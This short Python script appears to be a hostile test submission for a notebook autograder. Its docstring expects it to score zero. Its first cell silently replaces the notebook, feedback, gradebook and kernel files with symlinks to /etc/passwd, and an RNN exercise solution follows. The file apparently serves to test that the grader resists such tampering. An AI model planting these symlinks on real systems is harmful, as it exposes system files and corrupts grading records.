"""Puts links in the place of files, in case the grader follows them.

Earns: 0
"""

# %%
import os

for name in ("ch01_rnn.ipynb", "feedback", "gradebook.db", "/tmp/kernel.json"):
    try:
        os.symlink("/etc/passwd", name)
    except OSError:
        pass

# %% exercise="rnn_step"
def rnn_step(x, h, V, W, b):
    h_next = np.tanh(x @ V.T + h @ W + b)
    return h_next, (x, h, h_next)
